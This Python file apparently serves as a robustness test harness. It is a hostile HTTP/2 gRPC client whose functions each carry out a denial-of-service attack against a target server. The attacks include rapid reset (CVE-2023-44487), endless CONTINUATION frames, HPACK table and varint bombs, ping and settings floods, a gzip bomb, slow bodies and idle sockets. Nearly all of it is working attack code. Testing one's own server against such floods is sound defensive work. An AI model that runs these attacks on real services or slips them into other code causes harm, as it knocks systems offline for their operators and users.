"""A client that means ill, frame by frame: what neither our client nor gRPC's would send.

hostile_client.py ATTACK TARGET DIR [NUMBER]: the folder has ca.pem, cert.pem, key.pem. Prints one word: "cut" when
the server ended the connection, "goaway" when it said so first, a gRPC status ("status:8"), an HTTP/2 error of the
stream ("reset:11"), or "open" when nothing of that came within the time.
"""
import select
import socket
import ssl
import struct
import sys
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
# Sent by gRPC as a literal without indexing, or with: "grpc-status" and its value.
STATUS_NAME = b"\x0bgrpc-status"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def varint(value, prefix, first):
    """RFC 7541, 5.1."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + [value])


def literal(name, value, first=0):
    """A header; `first` 0x40: it also goes into the dynamic table."""
    return bytes([first]) + varint(len(name), 7, 0) + name + varint(len(value), 7, 0) + value


def request(path, *more):
    block = b"\x83\x87" + literal(b":path", path.encode()) + literal(b":authority", b"node.test")
    block += literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")
    return block + b"".join(more)


def message(payload, compressed=0):
    return struct.pack(">BI", compressed, len(payload)) + payload


class Connection:
    def __init__(self, settings=b"", preface=True, deaf=False):
        self.deaf = deaf
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(folder + "/ca.pem")
        context.load_cert_chain(folder + "/cert.pem", folder + "/key.pem")
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(socket.create_connection(address, 10))
        self.socket.settimeout(10)
        self.seen, self.buffer, self.ended = [], b"", False
        if preface:
            # No dynamic table towards us: every header of an answer is a literal.
            settings += struct.pack(">HI", 1, 0)
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))

    def send(self, data):
        """False: the server takes no more."""
        try:
            self.socket.sendall(data)
            return True
        except (OSError, ssl.SSLError):
            return False

    def feed(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            self.take(kind, flags, stream, payload)

    def take(self, kind, flags, stream, payload):
        if kind == PING and not flags and not self.deaf:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == RST_STREAM and any(payload):      # 0: "send no more", after an answer
            self.seen.append("reset:%d" % int.from_bytes(payload[:4], "big"))
        elif kind == GOAWAY and int.from_bytes(payload[4:8], "big") != 0:
            self.seen.append("goaway")
        elif kind == HEADERS and STATUS_NAME in payload:
            at = payload.index(STATUS_NAME) + len(STATUS_NAME)
            self.seen.append("status:" + payload[at + 1:at + 1 + payload[at]].decode())
        elif kind == HEADERS and flags & END_STREAM:
            self.seen.append("answered")
        elif kind == DATA and len(payload) > 5:
            self.seen.append("data")

    def wait(self, wanted=1, seconds=20, ignore=("data",)):
        """Reads until there are so many answers, or the connection ends; the last of them, or how it ended."""
        end = time.monotonic() + seconds
        answers = lambda: [one for one in self.seen if one not in ignore]
        while len(answers()) < wanted and time.monotonic() < end:
            try:
                if not self.socket.pending() and not select.select([self.socket], [], [], 0.1)[0]:
                    continue
                data = self.socket.recv(1 << 16)
            except socket.timeout:
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.ended = True
                return answers()[-1] if answers() else "cut"
            self.feed(data)
        return answers()[-1] if answers() else "open"


def repeat(connection, piece, count, at_once=500):
    for begin in range(0, count, at_once):
        if not connection.send(b"".join(piece(i) for i in range(begin, min(begin + at_once, count)))):
            return False
    return True


# ---- the attacks ----

def rapid_reset():
    """CVE-2023-44487: every call is taken back at once. Streams are never too many, calls are."""
    connection, block = Connection(), request("/test.T/Work")
    repeat(connection, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, block) +
           frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", 8)), number, 5000)
    return connection.wait(ignore=("data", "status:8", "status:1", "status:12"))


def call_flood():
    """Unary calls, fifty at once, each fifty as soon as the last are answered."""
    connection, block, body = Connection(), request("/test.T/Work"), message(b"")
    for begin in range(0, number, 50):
        if not repeat(connection, lambda i: frame(HEADERS, END_HEADERS, 2 * (begin + i) + 1, block) +
                      frame(DATA, END_STREAM, 2 * (begin + i) + 1, body), 50):
            return "cut"
        last = connection.wait(begin + 50)
        if len(connection.seen) < begin + 50:
            return "cut" if connection.ended else "lost:%d" % len(connection.seen)
    return last


def unknown_methods():
    connection = Connection()
    for i in range(number):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request("/test.T/Nothing%d" % i)))
        if i % 50 == 49:
            connection.wait(i + 1)
    last = connection.wait(number)
    return last if len(connection.seen) == number else "lost:%d" % (number - len(connection.seen))


def large_headers():
    """`number` bytes of metadata in one call: HEADERS and as many CONTINUATION frames as it takes."""
    connection = Connection()
    block = request("/test.T/Work", *[literal(b"x-fill-%d" % i, b"v" * 1000) for i in range(number // 1000)])
    pieces = [block[i:i + 16000] for i in range(0, len(block), 16000)]
    for i, piece in enumerate(pieces):
        last = END_HEADERS if i + 1 == len(pieces) else 0
        kind, end = (HEADERS, END_STREAM) if i == 0 else (CONTINUATION, 0)
        if not connection.send(frame(kind, last | end, 1, piece)):
            break
    return connection.wait()


def endless_headers():
    """CONTINUATION frames that never end (CVE-2024-27316 and its like)."""
    connection = Connection()
    connection.send(frame(HEADERS, END_STREAM, 1, request("/test.T/Work")))
    piece = literal(b"x-fill", b"v" * 15000)
    repeat(connection, lambda i: frame(CONTINUATION, 0, 1, piece), number, 50)
    return connection.wait(seconds=2)


def table_bomb():
    """A header of 3 KB goes into the dynamic table once and is named a thousand times."""
    connection = Connection()
    block = request("/test.T/Work", literal(b"x-bomb", b"b" * 3000, 0x40), b"\xbe" * number)
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    return connection.wait()


def known(connection):
    """After a call, and with others open, more is expected of a connection."""
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/test.T/Nothing")))
    connection.wait()
    repeat(connection, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 3, request("/test.T/Work")), 100)
    connection.seen.clear()


def known_varint():
    connection = Connection()
    known(connection)
    connection.send(frame(HEADERS, END_STREAM, 1001, request("/test.T/Work") + b"\x00\x7f"))
    repeat(connection, lambda i: frame(CONTINUATION, 0, 1001, b"\x80" * 16000), number, 50)
    return connection.wait(ignore=("data", "status:8"))


def endless_string():
    """A value that says it is 1 GiB long: gRPC keeps it all to decode it when it is whole."""
    connection = Connection()
    known(connection)
    connection.send(frame(HEADERS, END_STREAM, 1001, request("/test.T/Work") + b"\x00\x01x" + varint(1 << 30, 7, 0)))
    repeat(connection, lambda i: frame(CONTINUATION, 0, 1001, b"z" * 16000), number, 50)
    return connection.wait(ignore=("data", "status:8"))


def padded_varint():
    """CVE-2023-33953: a length that goes on for ever, of bytes that add nothing."""
    connection = Connection()
    connection.send(frame(HEADERS, END_STREAM, 1, request("/test.T/Work") + b"\x00\x7f"))
    repeat(connection, lambda i: frame(CONTINUATION, 0, 1, b"\x80" * 16000), number, 50)
    return connection.wait(seconds=2)


def bad_index():
    connection = Connection()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/test.T/Work", b"\xff\xff\x7f")))
    return connection.wait()


def huge_table_size():
    """A table size beyond what the server allows is a compression error."""
    connection = Connection()
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, varint(1 << 28, 5, 0x20) + request("/test.T/Work")))
    return connection.wait()


def ping_flood():
    connection = Connection()
    repeat(connection, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), number)
    return connection.wait(seconds=5)


def settings_flood():
    """Each SETTINGS has to be answered; nobody reads the answers until the end."""
    connection = Connection()
    repeat(connection, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), number, 2000)
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request("/test.T/Nothing")))
    return connection.wait(seconds=5)


def empty_frames():
    connection = Connection()
    connection.send(frame(HEADERS, END_HEADERS, 1, request("/test.T/Work")))
    repeat(connection, lambda i: frame(DATA, 0, 1), number, 2000)
    connection.send(frame(DATA, END_STREAM, 1, message(b"")))
    return connection.wait(ignore=("data",))


def no_room():
    """Asks for replies and gives no window for any byte of them."""
    connection = Connection(struct.pack(">HI", 4, 0))
    for i in range(number):
        connection.send(frame(HEADERS, END_HEADERS, 2 * i + 1, request("/test.T/Work")) +
                        frame(DATA, END_STREAM, 2 * i + 1, message(b"\x18\x07\x22\x04zzzz")))
    return connection.wait(number)


def slow_body():
    """A request of which a byte comes now and then."""
    connection = Connection()
    connection.send(frame(HEADERS, END_HEADERS, 1, request("/test.T/Work")) +
                    frame(DATA, 0, 1, struct.pack(">BI", 0, 1000)))
    for _ in range(100):
        if connection.wait(seconds=0.1) != "open":
            break
        connection.send(frame(DATA, 0, 1, b"z"))
    return connection.wait(seconds=1)


def deaf_to_pings():
    """Says hello, then nothing: no answer to any ping."""
    return Connection(deaf=True).wait(seconds=10)


def no_preface():
    """A whole handshake, and then not a word."""
    return Connection(preface=False).wait(seconds=10)


def not_http2():
    connection = Connection(preface=False)
    connection.send(b"GET / HTTP/1.1\r\nHost: node.test\r\n\r\n")
    return connection.wait(seconds=10)


def gzip_bomb():
    """`number` MiB of zeros, deflated. The server inflates nothing."""
    connection = Connection()
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(number)) + packer.flush()
    body = message(packed, 1)
    connection.send(frame(HEADERS, END_HEADERS, 1, request("/test.T/Work", literal(b"grpc-encoding", b"gzip"))))
    for begin in range(0, len(body), 16000):
        end = END_STREAM if begin + 16000 >= len(body) else 0
        if not connection.send(frame(DATA, end, 1, body[begin:begin + 16000])):
            break
    return connection.wait()


def flag_alone():
    """The compressed flag and no encoding named."""
    connection = Connection()
    connection.send(frame(HEADERS, END_HEADERS, 1, request("/test.T/Work")) +
                    frame(DATA, END_STREAM, 1, message(zlib.compress(bytes(1 << 20)), 1)))
    return connection.wait()


def length_lies():
    """A message says 4 GiB of itself and has 10 bytes."""
    connection = Connection()
    connection.send(frame(HEADERS, END_HEADERS, 1, request("/test.T/Work")) +
                    frame(DATA, END_STREAM, 1, struct.pack(">BI", 0, 0xffffffff) + bytes(10)))
    return connection.wait()


def open_streams():
    """Calls that are begun and left: more at once than one connection may have."""
    connection, block = Connection(), request("/test.T/Work")
    repeat(connection, lambda i: frame(HEADERS, END_HEADERS, 2 * i + 1, block), number)
    return connection.wait(seconds=5)


def silent_sockets():
    """Connects without a word of TLS; waits until the server has closed every one."""
    sockets = [socket.create_connection(address, 10) for _ in range(number)]
    end = time.monotonic() + 10
    left = list(sockets)
    while left and time.monotonic() < end:
        for one in select.select(left, [], [], 0.2)[0]:
            try:
                gone = not one.recv(100)
            except OSError:
                gone = True
            if gone:
                left.remove(one)
    return "open:%d" % len(left) if left else "cut"


attack, target, folder = sys.argv[1:4]
number = int(sys.argv[4]) if len(sys.argv) > 4 else 0
address = (target.rsplit(":", 1)[0], int(target.rsplit(":", 1)[1]))
print(globals()[attack]())
